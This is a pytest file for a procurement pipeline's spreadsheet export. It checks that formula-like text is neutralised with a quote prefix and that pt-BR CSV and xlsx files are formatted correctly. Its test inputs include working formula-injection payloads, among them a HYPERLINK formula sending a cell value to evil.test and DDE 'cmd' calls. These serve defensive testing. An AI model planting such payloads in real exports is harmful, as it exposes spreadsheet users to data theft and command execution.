"""CSV formula injection (issue 13, item 6): a text cell a spreadsheet would run as a formula is
prefixed with a single quote (OWASP); numbers, dates and harmless text are left as they are.
The Excel pt-BR files (issue 14, item 5): CSV with BOM, ';' and decimal comma; .xlsx with
numeric cells and no formula cell."""

from __future__ import annotations

import datetime as dt
import io
import time
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from procurement_pipeline.lib.export import (
    DATE_FORMAT,
    MONEY_FORMAT,
    ONE_DECIMAL_FORMAT,
    excel_csv,
    excel_xlsx,
    neutralize_formula,
    neutralize_formulas,
)


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.test/?x="&A1,"clique")',
        "=1+1",
        "+55 11 5555-0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",  # leading blanks do not hide a formula
        "\n@x",
        "\uff1d1+1",  # full-width equals sign
    ],
)
def test_formula_like_text_is_prefixed_with_a_quote(value):
    assert neutralize_formula(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Espuma D33", "", "café", "10 - 2", "a=b", "'já citado", "R$ 10,00", "ESP-00001"],
)
def test_other_text_is_unchanged(value):
    assert neutralize_formula(value) == value


@pytest.mark.parametrize("value", [-3.5, -1, 0, None, dt.date(2026, 1, 2), True])
def test_non_text_values_are_unchanged(value):
    assert neutralize_formula(value) is value


def test_frame_text_columns_only_negative_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "SKU": pd.Series(["-SKU-1", "OK-2"], dtype=str),
            "Produto": ["=cmd|'/C calc'!A0", "Cola"],
            "Data": [dt.date(2026, 11, 25), None],
            "Urgência (dias)": [-3.0, 12.5],
            "Quantidade": pd.Series([-2, 4], dtype="int64"),
            "Motivo": pd.Series(["@evil", None], dtype=object),
        }
    )
    out = neutralize_formulas(frame)
    assert list(out["SKU"]) == ["'-SKU-1", "OK-2"]
    assert list(out["Produto"]) == ["'=cmd|'/C calc'!A0", "Cola"]
    assert out["Motivo"].iloc[0] == "'@evil" and pd.isna(out["Motivo"].iloc[1])
    assert list(out["Data"]) == [dt.date(2026, 11, 25), None]
    assert list(out["Urgência (dias)"]) == [-3.0, 12.5]
    assert out["Urgência (dias)"].dtype == float and out["Quantidade"].dtype == "int64"
    assert list(out["Quantidade"]) == [-2, 4]
    # The input is not modified.
    assert frame["Produto"].iloc[0] == "=cmd|'/C calc'!A0"

    text = out.to_csv(index=False, sep=";", decimal=",")
    parsed = pd.read_csv(io.StringIO(text), sep=";", decimal=",")
    assert list(parsed["Urgência (dias)"]) == [-3.0, 12.5]
    assert parsed["Produto"].iloc[0] == "'=cmd|'/C calc'!A0"


# --------------------------------------------------------------------------- Excel pt-BR files

BUY_LIKE = pd.DataFrame(
    {
        "SKU": ["PAR/M6x20-INOX", "ÇAB-ÁGUA-01"],
        "Produto": ['=HYPERLINK("http://evil.test","x")', "Cabo d'água 2,5 mm²"],
        "Data": [dt.date(2026, 11, 25), None],
        "Quantidade": [418.5, 12.0],
        "Preço hoje": [1234.56, 169.39],
        "Urgência (dias)": [-3.0, float("nan")],
        "Pedidos": pd.Series([1200, -4], dtype="int64"),
    }
)


def test_excel_csv_opens_right_in_excel_pt_br():
    content = excel_csv(BUY_LIKE)
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents right
    text = content[3:].decode("utf-8")
    header, first, second = text.splitlines()
    assert header == "SKU;Produto;Data;Quantidade;Preço hoje;Urgência (dias);Pedidos"
    fields = first.split(";")
    assert fields[0] == "PAR/M6x20-INOX"
    assert fields[1].startswith("\"'=HYPERLINK(")  # neutralised, quoted by the csv writer
    assert fields[2:] == ["25/11/2026", "418,50", "1234,56", "-3,00", "1200"]
    assert second.split(";")[2:] == ["", "12,00", "169,39", "", "-4"]
    parsed = pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")
    assert list(parsed["Preço hoje"]) == [1234.56, 169.39]
    assert parsed["Produto"].iloc[1] == "Cabo d'água 2,5 mm²"


def test_excel_xlsx_has_numeric_cells_and_no_formula():
    content = excel_xlsx(BUY_LIKE, {"Preço hoje": MONEY_FORMAT, "Quantidade": ONE_DECIMAL_FORMAT})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula cell at all

    sheet = load_workbook(io.BytesIO(content)).active
    assert [c.value for c in sheet[1]] == list(BUY_LIKE.columns)
    sku, product, day, quantity, price, urgency, orders = sheet[2]
    assert sku.value == "PAR/M6x20-INOX" and sku.data_type == "s"
    # Formula-like text: the exact text, a string cell with Excel's quote prefix.
    assert product.value == BUY_LIKE["Produto"].iloc[0]
    assert product.data_type == "s" and product.quotePrefix
    assert not sheet["B3"].quotePrefix
    assert day.value == dt.datetime(2026, 11, 25) and day.number_format == DATE_FORMAT
    assert day.is_date
    assert quantity.value == 418.5 and quantity.number_format == ONE_DECIMAL_FORMAT
    assert isinstance(price.value, float) and price.value == 1234.56
    assert price.number_format == MONEY_FORMAT
    assert urgency.value == -3.0 and urgency.data_type == "n"  # negative stays a number
    assert orders.value == 1200 and orders.number_format == "#,##0"
    assert sheet["C3"].value is None and sheet["F3"].value is None  # missing: empty cells
    assert sheet["G3"].value == -4
    # Deterministic: the same table gives the same bytes (downloads are served by content).
    time.sleep(1.1)
    assert excel_xlsx(BUY_LIKE, {"Preço hoje": MONEY_FORMAT, "Quantidade": ONE_DECIMAL_FORMAT}) == (
        content
    )
